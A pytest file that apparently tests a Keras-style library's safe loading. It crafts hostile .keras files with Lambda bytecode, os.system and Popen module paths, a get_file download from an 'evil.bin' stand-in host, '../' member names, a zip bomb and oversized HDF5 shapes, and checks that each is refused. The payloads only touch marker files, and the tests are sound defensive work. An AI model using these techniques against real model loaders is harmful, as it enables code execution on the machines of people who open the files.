"""Crafted hostile model files: every one is refused with a clear error and no side effect.

Each case starts from a valid `.keras` file and changes one thing the way a published Keras
safe_mode bypass did (research/reliability.md §3): Lambda bytecode, a module path in the config,
a `get_file` call, `../` member names, a zip bomb, an HDF5 dataset declaring a huge shape, a
truncated archive, pickled objects. Loading must raise, must not create files, and must not
import a module the file names.
"""
import base64
import io
import json
import marshal
import os
import sys
import zipfile

import numpy as np
import pytest

h5py = pytest.importorskip("h5py")

from tapeflow import keras
from tapeflow.keras import saving
from tapeflow.keras.saving import file_io


@pytest.fixture
def base(tmp_path):
    """(path, members) of a valid small model file."""
    model = keras.Sequential([keras.Input((3,)), keras.layers.Dense(2, name="d")])
    model.compile(optimizer="sgd", loss="mse")
    path = tmp_path / "good.keras"
    saving.save_model(model, path)
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    return path, members


def _write(path, members, compress=zipfile.ZIP_STORED):
    with zipfile.ZipFile(path, "w", compression=compress) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _with_config(tmp_path, members, edit, name="bad.keras"):
    config = json.loads(members["config.json"])
    edit(config)
    out = dict(members, **{"config.json": json.dumps(config).encode()})
    return _write(tmp_path / name, out)


def _dense(config):
    return config["config"]["layers"][1]


def _files(folder):
    return sorted(os.listdir(folder))


def _refused(path, error, match, marker=None, **kwargs):
    folder = os.path.dirname(path)
    before = _files(folder)
    with pytest.raises(error, match=match):
        saving.load_model(path, **kwargs)
    assert _files(folder) == before, "loading created or removed files"
    if marker is not None:
        assert not os.path.exists(marker), "the file's code ran"


# -- code in the config ------------------------------------------------------------------------
def _payload(marker):
    """Bytecode of a lambda that, if ever run, creates ``marker``."""
    fn = eval(f"lambda x: (open({str(marker)!r}, 'w').close(), x)[1]")
    return base64.b64encode(marshal.dumps(fn.__code__)).decode("ascii")


def test_lambda_layer_bytecode(tmp_path, base):
    marker = tmp_path / "pwned_lambda"

    def edit(config):
        config["config"]["layers"].insert(1, {
            "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": "evil", "trainable": True, "arguments": {},
                       "function": {"class_name": "__lambda__", "config": {
                           "code": _payload(marker), "defaults": None, "closure": None}}}})
    path = _with_config(tmp_path, base[1], edit)
    _refused(path, ValueError, r"`Lambda` layer whose `function` is a Python lambda.*"
                               r"safe_mode=False", marker)


def test_lambda_as_an_activation(tmp_path, base):
    marker = tmp_path / "pwned_activation"

    def edit(config):
        _dense(config)["config"]["activation"] = {
            "class_name": "__lambda__", "config": {"value": [_payload(marker), None, None]}}
    path = _with_config(tmp_path, base[1], edit)
    _refused(path, ValueError, "deserialization of a Python lambda", marker)


def test_safe_mode_false_is_explicit(tmp_path, base):
    # The refusal is the default; only an explicit safe_mode=False runs the bytecode.
    marker = tmp_path / "ran_on_purpose"

    def edit(config):
        config["config"]["layers"].insert(1, {
            "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": "trusted", "trainable": True, "arguments": {},
                       "function": {"class_name": "__lambda__", "config": {
                           "code": _payload(marker), "defaults": None, "closure": None}}}})
    path = _with_config(tmp_path, base[1], edit)
    model = saving.load_model(path, safe_mode=False)
    model.predict(np.ones((1, 3)), verbose=0)
    assert marker.exists()


@pytest.mark.parametrize("module, class_name, config", [
    ("os", "system", {"command": "touch {marker}"}),
    ("subprocess", "Popen", {"args": ["touch", "{marker}"]}),
    ("builtins", "eval", {"source": "open('{marker}', 'w')"}),
    ("this", "Layer", {}),
    ("keras.src.layers", "Dense.__init__.__globals__", {}),
])
def test_module_paths_are_never_imported(tmp_path, base, module, class_name, config):
    marker = tmp_path / "pwned_module"
    config = json.loads(json.dumps(config).replace("{marker}", str(marker)))
    had_this = "this" in sys.modules

    def edit(cfg):
        cfg["config"]["layers"][1] = {"module": module, "class_name": class_name,
                                      "config": config, "registered_name": None}
    path = _with_config(tmp_path, base[1], edit)
    _refused(path, TypeError, f"Could not locate class '{class_name}'", marker)
    assert ("this" in sys.modules) == had_this


@pytest.mark.parametrize("entry", [
    {"module": "builtins", "class_name": "function", "config": "eval",
     "registered_name": "eval"},
    {"module": "os", "class_name": "function", "config": "system", "registered_name": None},
    {"module": "keras.activations", "class_name": "function", "config": "__import__",
     "registered_name": None},
])
def test_functions_outside_the_allow_list(tmp_path, base, entry):
    def edit(config):
        _dense(config)["config"]["activation"] = entry
    path = _with_config(tmp_path, base[1], edit)
    _refused(path, TypeError, "Could not locate class")


@pytest.mark.parametrize("where", ["layer", "initializer", "compile"])
def test_get_file_call_in_a_config(tmp_path, base, where):
    marker = tmp_path / "downloaded"
    call = {"module": "keras.utils", "class_name": "get_file", "registered_name": None,
            "config": {"fname": str(marker), "origin": "http://127.0.0.1:9/evil.bin",
                       "cache_dir": str(tmp_path)}}

    def edit(config):
        if where == "layer":
            config["config"]["layers"][1] = call
        elif where == "initializer":
            _dense(config)["config"]["kernel_initializer"] = call
        else:
            config["compile_config"]["loss"] = call
    path = _with_config(tmp_path, base[1], edit)
    _refused(path, ValueError, r"Cannot deserialize `keras.utils.get_file` because it is not a "
                               "modeling function", marker)


@pytest.mark.parametrize("name", ["load_model", "enable_unsafe_deserialization", "TFSMLayer"])
def test_other_non_modeling_apis(tmp_path, base, name):
    def edit(config):
        config["config"]["layers"][1] = {"module": "keras.saving", "class_name": name,
                                         "config": {"filepath": "/etc/passwd"},
                                         "registered_name": None}
    _refused(_with_config(tmp_path, base[1], edit), ValueError, "not a modeling function")


def test_pickled_or_object_arrays_in_a_config(tmp_path, base):
    def edit(config):
        _dense(config)["config"]["kernel_initializer"] = {
            "class_name": "__numpy__", "config": {"value": ["cos", "system"], "dtype": "object"}}
    _refused(_with_config(tmp_path, base[1], edit), ValueError, "only numeric and bool arrays")


def test_typespec_entries(tmp_path, base):
    def edit(config):
        _dense(config)["config"]["kernel_initializer"] = {
            "class_name": "__typespec__", "spec_name": "TensorSpec", "module": "tensorflow",
            "config": [[2], "float32"], "registered_name": None}
    _refused(_with_config(tmp_path, base[1], edit), ValueError, "__typespec__")


# -- the archive -------------------------------------------------------------------------------
@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("member", ["../escape.txt", "/tmp/tapeflow_abs_escape.txt",
                                    "assets/../../escape.txt", "model.weights.h5/../x",
                                    "config.json\x00.txt", "model.weights.npz"])
def test_member_names_outside_the_format(tmp_path, base, member):
    inside = tmp_path / "sub"
    inside.mkdir()
    path = _write(inside / "bad.keras", dict(base[1], **{member: b"owned"}))
    _refused(str(path), file_io.CorruptFileError, "unexpected member|more than once")
    assert not (tmp_path / "escape.txt").exists()
    assert not os.path.exists("/tmp/tapeflow_abs_escape.txt")


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_duplicate_members(tmp_path, base):
    path = tmp_path / "dup.keras"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in base[1].items():
            archive.writestr(name, data)
        archive.writestr("config.json", b'{"class_name": "Sequential"}')
    _refused(str(path), file_io.CorruptFileError, "more than once")


def test_zip_bomb(tmp_path, base):
    path = tmp_path / "bomb.keras"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", base[1]["metadata.json"])
        archive.writestr("config.json", base[1]["config.json"])
        with archive.open("model.weights.h5", "w", force_zip64=True) as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(64):
                member.write(chunk)
    assert os.path.getsize(path) < (1 << 20)
    _refused(str(path), file_io.CorruptFileError, "decompression bomb")


def test_member_declaring_a_huge_size(tmp_path, base):
    path = _write(tmp_path / "huge.keras", base[1])
    data = bytearray(path.read_bytes())
    # Central directory entry of model.weights.h5: patch its uncompressed size to 5 GiB.
    name = b"model.weights.h5"
    at = data.rfind(name) - 46
    assert data[at:at + 4] == b"PK\x01\x02"
    data[at + 24:at + 28] = (0xFFFFFFFF).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    _refused(str(path), file_io.CorruptFileError, "corrupt")


def test_member_longer_than_its_header_says(tmp_path, base):
    path = _write(tmp_path / "liar.keras", base[1])
    data = bytearray(path.read_bytes())
    at = data.rfind(b"config.json") - 46
    assert data[at:at + 4] == b"PK\x01\x02"
    size = int.from_bytes(data[at + 24:at + 28], "little")
    data[at + 24:at + 28] = (size - 10).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    _refused(str(path), file_io.CorruptFileError, "corrupt")


@pytest.mark.parametrize("fraction", [0.0, 0.1, 0.5, 0.9, 0.99])
def test_truncated_archive_says_corrupt(tmp_path, base, fraction):
    data = base[0].read_bytes()
    path = tmp_path / "cut.keras"
    path.write_bytes(data[:int(len(data) * fraction)])
    _refused(str(path), file_io.CorruptFileError, r"is corrupt: .*(zip|truncated|member)")


def test_not_a_zip(tmp_path):
    path = tmp_path / "text.keras"
    path.write_text("hello")
    _refused(str(path), file_io.CorruptFileError, "not a valid zip archive")


def test_missing_members_and_bad_json(tmp_path, base):
    members = {k: v for k, v in base[1].items() if k != "model.weights.h5"}
    _refused(str(_write(tmp_path / "a.keras", members)), file_io.CorruptFileError,
             "'model.weights.h5' is missing")
    bad = dict(base[1], **{"config.json": b"{not json"})
    _refused(str(_write(tmp_path / "b.keras", bad)), file_io.CorruptFileError,
             "'config.json' is not valid JSON")
    deep = dict(base[1], **{"config.json": b"[" * 100000 + b"]" * 100000})
    _refused(str(_write(tmp_path / "c.keras", deep)), file_io.CorruptFileError, "JSON")


# -- the weights -------------------------------------------------------------------------------
def _h5(build):
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as f:
        build(f)
    return buffer.getvalue()


def _weights_file(tmp_path, base, build):
    return _write(tmp_path / "w.keras", dict(base[1], **{"model.weights.h5": _h5(build)}))


def test_h5_dataset_declaring_a_huge_shape(tmp_path, base):
    def build(f):
        group = f.create_group("layers/dense/vars")
        group.create_dataset("0", shape=(1 << 20, 1 << 20), dtype="float32")  # 4 TiB, unstored
        group.create_dataset("1", shape=(2,), dtype="float32")
    path = _weights_file(tmp_path, base, build)
    assert os.path.getsize(path) < (1 << 20)
    _refused(str(path), file_io.CorruptFileError, r"declares shape \(1048576, 1048576\)")


def test_h5_compressed_dataset_expanding_past_the_file(tmp_path, base):
    def build(f):
        group = f.create_group("layers/dense/vars")
        group.create_dataset("0", data=np.zeros((3, 2), "float32"))
        group.create_dataset("1", data=np.zeros((2,), "float32"))
        f.create_group("optimizer/vars").create_dataset(
            "0", shape=(4096, 4096), dtype="float64", compression="gzip", fillvalue=1.0)
    # The optimizer slot is not what the model expects: refused on its shape, never read.
    path = _weights_file(tmp_path, base, build)
    with pytest.warns(UserWarning, match="Skipping variable loading for optimizer"):
        saving.load_model(path)


@pytest.mark.parametrize("kind", ["object", "vlen", "compound"])
def test_h5_non_numeric_datasets(tmp_path, base, kind):
    def build(f):
        group = f.create_group("layers/dense/vars")
        if kind == "object" or kind == "vlen":
            group.create_dataset("0", data=["import os", "os.system"],
                                 dtype=h5py.string_dtype())
        else:
            group.create_dataset("0", data=np.zeros(3, dtype=[("a", "f4"), ("b", "i4")]))
        group.create_dataset("1", data=np.zeros((2,), "float32"))
    _refused(str(_weights_file(tmp_path, base, build)), file_io.CorruptFileError,
             "only numeric and bool arrays")


def test_h5_external_link(tmp_path, base):
    other = tmp_path / "outside.h5"
    with h5py.File(other, "w") as f:
        f.create_dataset("secret", data=np.zeros((3, 2), "float32"))

    def build(f):
        group = f.create_group("layers/dense/vars")
        group["0"] = h5py.ExternalLink(str(other), "secret")
        group.create_dataset("1", data=np.zeros((2,), "float32"))
    _refused(str(_weights_file(tmp_path, base, build)), file_io.CorruptFileError,
             "ExternalLink")


def test_h5_external_storage(tmp_path, base):
    raw = tmp_path / "raw.bin"
    raw.write_bytes(b"\0" * 24)

    def build(f):
        group = f.create_group("layers/dense/vars")
        group.create_dataset("0", shape=(3, 2), dtype="float32", external=[(str(raw), 0, 24)])
        group.create_dataset("1", data=np.zeros((2,), "float32"))
    _refused(str(_weights_file(tmp_path, base, build)), file_io.CorruptFileError,
             "outside the file")


def test_truncated_h5_member(tmp_path, base):
    weights = base[1]["model.weights.h5"]
    path = _write(tmp_path / "t.keras", dict(base[1], **{"model.weights.h5":
                                                          weights[:len(weights) // 2]}))
    _refused(str(path), file_io.CorruptFileError, "not a readable HDF5 file")


def test_weights_file_truncated(tmp_path, base):
    model = saving.load_model(base[0])
    target = tmp_path / "m.weights.h5"
    saving.save_weights(model, target)
    target.write_bytes(target.read_bytes()[:300])
    with pytest.raises(file_io.CorruptFileError, match="corrupt"):
        saving.load_weights(model, target)


def test_refused_load_leaves_the_model_untouched(tmp_path, base):
    model = saving.load_model(base[0])
    before = [w.numpy().copy() for w in model.weights]

    def build(f):
        group = f.create_group("layers/dense/vars")
        group.create_dataset("0", data=np.ones((3, 2), "float32"))
        group.create_dataset("1", shape=(1 << 40,), dtype="float32")
    target = tmp_path / "partial.weights.h5"
    target.write_bytes(_h5(build))
    with pytest.raises(file_io.CorruptFileError):
        saving.load_weights(model, target)
    for b, w in zip(before, model.weights):
        np.testing.assert_array_equal(b, w.numpy())


def test_config_nested_too_deeply(tmp_path, base):
    def edit(config):
        deep = {}
        for _ in range(500):
            deep = {"x": deep}
        _dense(config)["config"]["kernel_initializer"] = {
            "module": "keras.initializers", "class_name": "Zeros", "config": deep}
    _refused(_with_config(tmp_path, base[1], edit), ValueError, "nested more than")
